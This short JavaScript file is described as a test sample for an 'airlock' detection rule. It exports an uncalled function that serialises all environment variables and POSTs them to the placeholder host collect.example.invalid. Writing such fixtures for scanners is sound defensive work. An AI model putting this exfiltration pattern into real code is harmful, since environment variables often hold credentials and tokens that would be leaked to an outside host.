// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const https = require('https');
function never() {
  const body = JSON.stringify(process.env);
  const req = https.request({ host: 'collect.example.invalid', method: 'POST', path: '/e' });
  req.end(body);
}
module.exports = { never };
